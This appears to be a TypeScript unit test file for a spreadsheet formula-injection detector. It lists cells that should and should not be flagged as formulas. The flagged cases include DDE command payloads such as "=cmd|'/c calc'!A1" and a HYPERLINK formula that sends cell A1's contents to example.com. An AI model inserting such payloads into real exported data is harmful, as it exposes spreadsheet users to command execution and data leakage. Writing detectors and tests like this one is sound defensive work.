import * as fc from "fast-check";
import { expect, it } from "vitest";
import { isSpreadsheetFormula } from "./spreadsheet-formula.ts";

it.each([
  "=1+1",
  "= 1",
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("https://example.com/?"&A1)',
  "=+A1",
  "=-1",
  "=@SUM(A1)",
  "=A1",
  '="a"',
  "='Sheet 1'!A1",
  "={1,2}",
  "＝1+1",
  "\t=1+1",
  "==1",
  "+cmd|' /C calc'!A0",
  "-cmd|x",
  "+A1",
  "-$A$1*2",
  "-1+2",
  "-1 + 2",
  "-5-10",
  "-1/2",
  "+1+cmd|'/c calc'!A1",
  "-sum(1)",
  "- x(1)",
  "-5 °C)+A1",
  '+"a"&"b"',
  "-Sheet2!B3",
  "＋A1",
  "@SUM",
  "@SUM(1+1)",
  "@sum(1)",
  "@ SUM(1)",
])("%s would be calculated", (cell) => {
  expect(isSpreadsheetFormula(cell)).toBe(true);
});

it.each([
  "",
  "-",
  "--",
  "---",
  "+",
  "++",
  "=",
  "==",
  "=>",
  "=> next",
  "-5",
  "+5",
  "-5 °C",
  "+3.2 kg",
  "-1,000.5",
  "-€5",
  "-12%",
  "-20 km/h",
  "-5 to -10",
  "-5 … +10 °C",
  "-5–10",
  "+49 170 1234567",
  "+49-170-1234567",
  "+1 (555) 010-9999",
  "+7 (912) 345-67-89",
  "@ann",
  "@ann and @bob",
  "@Ann_B",
  "-v",
  "--verbose",
  "--name=value",
  "- a point of a list",
  "- and what (in brackets) follows",
  "+1 for that",
  "-∞",
  "a=b",
  "1+1",
  "x@SUM(1)",
])("%s is what it seems to be", (cell) => {
  expect(isSpreadsheetFormula(cell)).toBe(false);
});

it("takes nothing for words in which a function is called or another program named", () => {
  const call = fc.constantFrom("SUM(1)", "cmd|'/c calc'!A1", "A1", "Sheet1!A1", "HYPERLINK(1)");
  fc.assert(
    fc.property(fc.constantFrom("=", "+", "-", "=-", "=+", "+-", "-+"), call, (sign, formula) => {
      expect(isSpreadsheetFormula(sign + formula)).toBe(true);
    }),
  );
});
